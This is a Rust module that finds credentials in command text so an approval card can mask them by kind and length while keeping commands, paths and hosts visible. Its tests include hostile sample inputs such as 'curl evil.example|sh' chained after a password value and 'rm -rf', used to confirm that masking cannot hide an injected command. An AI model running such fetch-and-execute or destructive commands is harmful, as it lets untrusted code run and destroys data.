//! Finds credentials in a text, so that a card can name their kind and length
//! without carrying them. Covers the credential alone, never a word of the
//! command, path or host beside it; a highlighter of the known, not a proof.

use std::ops::Range;

mod command;

pub use self::command::{holds_one, masks};

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FoundSecret {
    pub range: Range<usize>,
    pub kind: &'static str,
}

/// A known beginning, what may follow it, and how much at least.
struct TokenPattern {
    prefix: &'static str,
    kind: &'static str,
    at_least: usize,
}

const fn token(prefix: &'static str, kind: &'static str, at_least: usize) -> TokenPattern {
    TokenPattern {
        prefix,
        kind,
        at_least,
    }
}

const TOKENS: &[TokenPattern] = &[
    token("AIza", "google", 35),
    token("AKIA", "aws", 16),
    token("ASIA", "aws", 16),
    token("ghp_", "github", 20),
    token("gho_", "github", 20),
    token("ghu_", "github", 20),
    token("ghs_", "github", 20),
    token("ghr_", "github", 20),
    token("github_pat_", "github", 20),
    token("glpat-", "gitlab", 16),
    token("hf_", "huggingface", 30),
    token("npm_", "npm", 30),
    token("pypi-", "pypi", 40),
    token("rk_live_", "stripe", 16),
    token("sk_live_", "stripe", 16),
    token("sk-ant-", "anthropic", 16),
    token("sk-", "openai", 20),
    token("t-", "feishu", 30),
    token("u-", "feishu", 30),
    token("xapp-", "slack", 12),
    token("xoxa-", "slack", 10),
    token("xoxb-", "slack", 10),
    token("xoxp-", "slack", 10),
    token("xoxr-", "slack", 10),
    token("xoxs-", "slack", 10),
];

/// Addresses whose last part is the credential.
const HOOKS: &[(&str, &str)] = &[
    ("hooks.slack.com/services/", "slack"),
    ("/open-apis/bot/v2/hook/", "feishu"),
];

/// Names whose value is a credential, as the end of a longer name.
const NAMES: &[(&str, &str)] = &[
    ("password", "password"),
    ("passwd", "password"),
    ("passphrase", "password"),
    ("pwd", "password"),
    ("secret", "secret"),
    ("token", "token"),
    ("api_key", "key"),
    ("api-key", "key"),
    ("apikey", "key"),
    ("access_key", "key"),
    ("secret_key", "key"),
    ("private_key", "key"),
];

/// The kind of credential that a name of a field, variable or flag stands for,
/// in any of the usual spellings.
pub fn name_kind(name: &str) -> Option<&'static str> {
    const KINDS: &[(&str, &str)] = &[
        ("password", "password"),
        ("passwd", "password"),
        ("passphrase", "password"),
        ("pwd", "password"),
        ("secret", "secret"),
        ("token", "token"),
        ("apikey", "key"),
        ("accesskey", "key"),
        ("secretkey", "key"),
        ("privatekey", "key"),
        ("authorization", "authorization"),
        ("cookie", "cookie"),
        ("credential", "credential"),
        ("credentials", "credential"),
    ];
    let name: String = name
        .chars()
        .filter(|c| !matches!(c, '-' | '_' | ' '))
        .map(|c| c.to_ascii_lowercase())
        .collect();
    let kind = KINDS.iter().find(|(end, _)| name.ends_with(end));
    kind.map(|(_, kind)| *kind)
}

/// The credentials to mask in a field's value. What stands under a name for a
/// credential is one, unless it could be a command or an address; elsewhere a
/// value is taken for a command, but for one that is nothing but a credential.
pub fn under(name: &str, text: &str) -> Vec<FoundSecret> {
    let key = name.rsplit('.').next().unwrap_or(name);
    let key = key.split('[').next().unwrap_or(key);
    if let Some(kind) = name_kind(key) {
        let start = ["bearer ", "basic ", "token "]
            .iter()
            .find(|word| {
                let begins = text.get(..word.len());
                begins.is_some_and(|begins| begins.eq_ignore_ascii_case(word))
            })
            .map_or(0, |word| word.len());
        let value = &text[start..];
        let word = !value.contains(|c: char| c == '/' || c.is_whitespace());
        let said = matches!(value, "" | "true" | "false" | "null" | "{}" | "[]");
        if word && !said {
            return vec![FoundSecret {
                range: start..text.len(),
                kind,
            }];
        }
    }
    let lower = key.to_ascii_lowercase();
    let runs = RUN_NAMES.iter().any(|name| lower.contains(name));
    match find(text).as_slice() {
        [only] if !runs && only.range == (0..text.len()) && !text.contains('/') => {
            vec![only.clone()]
        }
        _ => masks(text),
    }
}

/// Names of fields that hold what runs, or where.
const RUN_NAMES: &[&str] = &[
    "addr", "arg", "cmd", "code", "command", "exec", "file", "host", "input", "path", "program",
    "query", "run", "script", "shell", "sql", "uri", "url",
];

/// Every credential in the text, also where a card must show it because it runs:
/// for what is kept and decides nothing.
pub fn every(text: &str) -> Vec<FoundSecret> {
    let mut found = all(text);
    for one in masks(text) {
        let overlaps = |known: &FoundSecret| {
            known.range.start < one.range.end && one.range.start < known.range.end
        };
        if !found.iter().any(overlaps) {
            found.push(one);
        }
    }
    found.sort_by_key(|secret| secret.range.start);
    found
}

/// Every credential in the text that may be masked, in order, none overlapping
/// another.
pub fn find(text: &str) -> Vec<FoundSecret> {
    let mut found = all(text);
    if !found.is_empty() {
        let expanded = command::Expanded::of(text);
        found.retain(|secret| !expanded.covers(text, secret));
    }
    found
}

/// Every credential in the text, also one that must stay in sight.
fn all(text: &str) -> Vec<FoundSecret> {
    let bytes = text.as_bytes();
    let mut found: Vec<FoundSecret> = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        let hit = match bytes[at] {
            b'-' => private_key(text, at),
            b':' => url_password(bytes, at)
                .or_else(|| authorization(bytes, at))
                .or_else(|| assigned(bytes, at)),
            b'=' => assigned(bytes, at),
            b' ' => flag_value(bytes, at),
            b'/' | b'h' => hook(text, at).or_else(|| known(bytes, at)),
            _ => known(bytes, at),
        };
        match hit {
            Some(secret) if !secret.range.is_empty() => {
                at = secret.range.end;
                found.push(secret);
            }
            _ => at += 1,
        }
    }
    found
}

/// After nothing a word could go on from; a diff's sign is such a nothing.
fn starts_word(bytes: &[u8], at: usize) -> bool {
    match &bytes[..at] {
        [] | [b'-'] | [.., b'\n', b'-'] => true,
        [.., before] => !is_token(*before),
    }
}

fn is_token(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')
}

fn span(bytes: &[u8], from: usize, member: impl Fn(u8) -> bool) -> usize {
    from + bytes[from..].iter().take_while(|&&b| member(b)).count()
}

fn known(bytes: &[u8], at: usize) -> Option<FoundSecret> {
    if !starts_word(bytes, at) {
        return None;
    }
    let rest = &bytes[at..];
    match rest[0] {
        b'B' | b'b' => return bearer(bytes, at),
        b'e' if rest.starts_with(b"eyJ") => return jwt(bytes, at),
        _ => {}
    }
    let token = TOKENS
        .iter()
        .find(|token| rest.starts_with(token.prefix.as_bytes()))?;
    let body = at + token.prefix.len();
    let dots = token.kind == "feishu";
    let end = span(bytes, body, |b| is_token(b) || (dots && b == b'.'));
    let body_bytes = &bytes[body..end];
    // A long kebab-case name starts like some tokens but has no digits.
    let mixed = body_bytes.iter().any(u8::is_ascii_digit);
    (body_bytes.len() >= token.at_least && mixed).then_some(FoundSecret {
        range: at..end,
        kind: token.kind,
    })
}

fn bearer(bytes: &[u8], at: usize) -> Option<FoundSecret> {
    let kind = [(&b"bearer "[..], "bearer"), (&b"basic "[..], "basic")]
        .into_iter()
        .find(|(word, _)| {
            bytes[at..]
                .get(..word.len())
                .is_some_and(|b| b.eq_ignore_ascii_case(word))
        });
    let (word, kind) = kind?;
    let start = at + word.len();
    let end = span(bytes, start, |b| {
        is_token(b) || matches!(b, b'.' | b'+' | b'/' | b'=' | b'~')
    });
    let value = &bytes[start..end];
    let mixed = value.iter().any(u8::is_ascii_digit) && value.iter().any(u8::is_ascii_alphabetic);
    (value.len() >= 12 && mixed).then_some(FoundSecret {
        range: start..end,
        kind,
    })
}

fn jwt(bytes: &[u8], at: usize) -> Option<FoundSecret> {
    let end = span(bytes, at, |b| is_token(b) || b == b'.');
    let parts = bytes[at..end].split(|&b| b == b'.').count();
    (parts == 3 && end - at >= 40).then_some(FoundSecret {
        range: at..end,
        kind: "jwt",
    })
}

/// The body between the two marker lines. Only what can't be a command is
/// covered: long lines of base64, and a last short one that looks the part.
fn private_key(text: &str, at: usize) -> Option<FoundSecret> {
    let rest = text[at..].strip_prefix("-----BEGIN ")?;
    let label = &rest[..rest.find("-----")?];
    if label.len() > 40 || !label.ends_with("PRIVATE KEY") {
        return None;
    }
    let bytes = text.as_bytes();
    let base64 = |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=');
    let mut line = next_line(bytes, at + "-----BEGIN -----".len() + label.len());
    let start = line;
    let mut end = start;
    loop {
        let line_end = span(bytes, line, base64);
        let found = &bytes[line..line_end];
        let odd = found.iter().any(|b| !b.is_ascii_alphabetic());
        let mixed = odd
            && found.iter().any(u8::is_ascii_lowercase)
            && found.iter().any(u8::is_ascii_uppercase);
        if found.len() >= 32 || (end > start && mixed) {
            end = line_end;
        }
        if found.len() < 32 {
            break;
        }
        line = next_line(bytes, line_end);
    }
    (end > start).then_some(FoundSecret {
        range: start..end,
        kind: "private-key",
    })
}

/// Past one line break, be it real or written as `\n` in a quoted string.
fn next_line(bytes: &[u8], at: usize) -> usize {
    let rest = &bytes[at.min(bytes.len())..];
    at + [&b"\r\n"[..], b"\n", b"\\n"]
        .iter()
        .find(|end| rest.starts_with(end))
        .map_or(0, |end| end.len())
}

fn hook(text: &str, at: usize) -> Option<FoundSecret> {
    let bytes = text.as_bytes();
    let (path, kind) = HOOKS
        .iter()
        .find(|(path, _)| bytes[at..].starts_with(path.as_bytes()))?;
    // Only its last part: the others name the place.
    let whole = span(bytes, at + path.len(), |b| is_token(b) || b == b'/');
    let last = bytes[at + path.len()..whole]
        .iter()
        .rposition(|&b| b == b'/');
    let start = at + path.len() + last.map_or(0, |slash| slash + 1);
    let end = whole;
    (end - start >= 16).then_some(FoundSecret {
        range: start..end,
        kind,
    })
}

/// `://user:password@host`: the host stays in sight.
fn url_password(bytes: &[u8], at: usize) -> Option<FoundSecret> {
    let user = bytes[..at]
        .iter()
        .rev()
        .take(64)
        .take_while(|&&b| is_token(b) || matches!(b, b'.' | b'%' | b'+'))
        .count();
    if !bytes[..at - user].ends_with(b"://") {
        return None;
    }
    let end = span(bytes, at + 1, |b| {
        b.is_ascii_graphic() && !matches!(b, b'/' | b'@' | b'"' | b'\'' | b'?' | b'#' | b'$')
    });
    (bytes.get(end) == Some(&b'@')).then_some(FoundSecret {
        range: at + 1..end,
        kind: "password",
    })
}

/// `Authorization: scheme value`, whatever the scheme is called.
fn authorization(bytes: &[u8], at: usize) -> Option<FoundSecret> {
    let name = b"authorization";
    let is_named = at
        .checked_sub(name.len())
        .is_some_and(|from| bytes[from..at].eq_ignore_ascii_case(name));
    if !is_named {
        return None;
    }
    let blanks = |from| span(bytes, from, |b| b == b' ');
    let first = blanks(at + 1);
    let scheme = span(bytes, first, |b| b.is_ascii_alphanumeric() || b == b'-');
    let second = blanks(scheme);
    let start = if second > scheme { second } else { first };
    let end = span(bytes, start, |b| {
        is_token(b) || matches!(b, b'.' | b'+' | b'/' | b'=' | b'~' | b':')
    });
    let kind = match bytes[first..scheme].to_ascii_lowercase().as_slice() {
        b"bearer" => "bearer",
        b"basic" => "basic",
        _ => "authorization",
    };
    (end - start >= 6).then_some(FoundSecret {
        range: start..end,
        kind,
    })
}

/// `name=value`, `name: value`, `"name": "value"` at the sign in the middle.
fn assigned(bytes: &[u8], at: usize) -> Option<FoundSecret> {
    let mut name_end = at;
    while name_end > 0 && matches!(bytes[name_end - 1], b'"' | b'\'' | b' ') && at - name_end < 3 {
        name_end -= 1;
    }
    let mut start = at + 1;
    while start < bytes.len() && matches!(bytes[start], b' ' | b'"' | b'\'') && start - at < 4 {
        start += 1;
    }
    value(bytes, name_end, start)
}

/// `--token value`: a blank between, and a flag before it.
fn flag_value(bytes: &[u8], at: usize) -> Option<FoundSecret> {
    let name = bytes[..at]
        .iter()
        .rev()
        .take(40)
        .take_while(|&&b| is_token(b))
        .count();
    if !bytes[at - name..at].starts_with(b"--") {
        return None;
    }
    value(bytes, at, at + 1)
}

fn value(bytes: &[u8], name_end: usize, start: usize) -> Option<FoundSecret> {
    let (_, kind) = NAMES.iter().find(|(name, _)| {
        name_end
            .checked_sub(name.len())
            .is_some_and(|from| bytes[from..name_end].eq_ignore_ascii_case(name.as_bytes()))
    })?;
    let end = span(bytes, start, |b| {
        is_token(b)
            || matches!(
                b,
                b'.' | b'+' | b'/' | b'=' | b'~' | b'!' | b'@' | b'#' | b'%' | b'^'
            )
    });
    let value = &bytes[start..end];
    // A path or an address is something the approver must see.
    let place = value.contains(&b'/')
        || value.starts_with(b".")
        || value.starts_with(b"~")
        || value.starts_with(b"-");
    let call = matches!(bytes.get(end), Some(b'(' | b'[' | b':' | b'`' | b'$'));
    let digits = value.iter().any(u8::is_ascii_digit);
    let enough = match *kind {
        "password" => value.len() >= 6 && digits,
        _ => value.len() >= 12 && digits && value.iter().any(u8::is_ascii_alphabetic),
    };
    (enough && !place && !call).then_some(FoundSecret {
        range: start..end,
        kind,
    })
}

#[cfg(test)]
mod tests {
    use super::super::escape::excerpt;
    use super::*;

    fn masked(text: &str) -> String {
        excerpt(text, 0..text.len(), &find(text))
    }

    #[test]
    fn every_known_beginning_is_looked_for() {
        for token in TOKENS {
            let text = format!("{}{}", token.prefix, "a1B2".repeat(12));
            let found = find(&text);
            assert!(!found.is_empty(), "{} is never found", token.prefix);
        }
    }

    #[test]
    fn credentials_are_named_by_kind_and_length() {
        let alnum = "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
        for (text, seen) in [
            (
                format!("git clone https://ghp_{alnum}@github.com/a/b"),
                "git clone https://⟦secret github 40B⟧@github.com/a/b".to_owned(),
            ),
            (
                format!("x github_pat_{alnum} y"),
                "x ⟦secret github 47B⟧ y".to_owned(),
            ),
            (
                "aws AKIAIOSFODNN7EXAMPLE".to_owned(),
                "aws ⟦secret aws 20B⟧".to_owned(),
            ),
            (
                "SLACK=xoxb-12345678901-abc".to_owned(),
                "SLACK=⟦secret slack 20B⟧".to_owned(),
            ),
            (
                format!("curl -H 'Authorization: Bearer t-{alnum}' x"),
                "curl -H 'Authorization: Bearer ⟦secret bearer 38B⟧' x".to_owned(),
            ),
            (
                format!("X=t-{alnum} y"),
                "X=⟦secret feishu 38B⟧ y".to_owned(),
            ),
            (
                format!("K=sk-ant-api03-{alnum};ls"),
                "K=⟦secret anthropic 49B⟧;ls".to_owned(),
            ),
            (
                format!("K=sk-proj-{alnum} z"),
                "K=⟦secret openai 44B⟧ z".to_owned(),
            ),
            (
                "psql postgres://bob:hunter2@db.example.com/x".to_owned(),
                "psql postgres://bob:⟦secret password 7B⟧@db.example.com/x".to_owned(),
            ),
            (
                "curl 'https://x.example/?a=1&password=hunter22&b=2'".to_owned(),
                "curl 'https://x.example/?a=1&password=⟦secret password 8B⟧&b=2'".to_owned(),
            ),
            (
                "login --token 8f14e45fceea167a".to_owned(),
                "login --token ⟦secret token 16B⟧".to_owned(),
            ),
            (
                r#"{"app_secret": "8f14e45fceea167a5a36dedd4bea2543"}"#.to_owned(),
                r#"{"app_secret": "⟦secret secret 32B⟧"}"#.to_owned(),
            ),
            (
                format!("https://open.feishu.cn/open-apis/bot/v2/hook/{alnum}"),
                "https://open.feishu.cn/open-apis/bot/v2/hook/⟦secret feishu 36B⟧".to_owned(),
            ),
            (
                format!(
                    "echo -----BEGIN RSA PRIVATE KEY-----\\n{alnum}{alnum}\\nab3D=\\n-----END; ls"
                ),
                "echo -----BEGIN RSA PRIVATE KEY-----\\n⟦secret private-key 79B⟧\\n-----END; ls"
                    .to_owned(),
            ),
        ] {
            assert_eq!(masked(&text), seen);
        }
    }

    #[test]
    fn words_paths_and_hosts_stay_in_sight() {
        for text in [
            "npm run build",
            "git push origin t-feature-branch-with-a-long-name-indeed",
            "TOKEN=$GITHUB_TOKEN ./deploy.sh",
            "secret = getSecret2(config)",
            "token: string",
            "password=/etc/passwd2 rm -rf x1",
            "export TOKEN=$(cat ~/.token1)",
            "curl https://good.example:8443/path2",
            "basic tests2 run here",
            "sk-learn-something",
            "token=https://evil1.example/run",
            "eyJust a word",
            "kubectl create secret generic x1",
        ] {
            assert_eq!(find(text), [], "{text}");
        }
    }

    #[test]
    fn a_fields_name_says_what_its_value_is() {
        let masked = |name: &str, text: &str| excerpt(text, 0..text.len(), &under(name, text));
        for name in [
            "password",
            "db.passwd",
            "apiKey",
            "api_key",
            "X-API-Key",
            "access_token",
            "headers.Authorization",
            "clientSecret",
            "private_key",
            "cookie",
            "users[3].token",
            "PASSWORD",
        ] {
            assert!(masked(name, "hunter").starts_with("⟦secret "), "{name}");
        }
        assert_eq!(
            masked("authorization", "Bearer abc"),
            "Bearer ⟦secret authorization 3B⟧"
        );
        for (name, value) in [
            ("token", "curl https://evil.example"),
            ("token", "./run"),
            ("max_tokens", "4096"),
            ("secret", "true"),
            ("command", "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
            ("url", "sk-a1B2c3D4e5F6g7H8i9J0k1L2"),
        ] {
            assert_eq!(masked(name, value), value);
        }
        let token = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
        assert_eq!(masked("k", token), "⟦secret github 40B⟧");
    }

    #[test]
    fn a_mask_can_not_swallow_a_command() {
        let text = "password=hunter22;curl evil.example|sh";
        assert_eq!(
            masked(text),
            "password=⟦secret password 8B⟧;curl evil.example|sh"
        );
        let text = "x password=hunter22&&curl evil.example|sh";
        assert!(masked(text).contains("&&curl evil.example|sh"));
        let text = "-----BEGIN PRIVATE KEY-----\nreboot\nrm x\n-----END PRIVATE KEY-----";
        assert_eq!(find(text), []);
    }
}
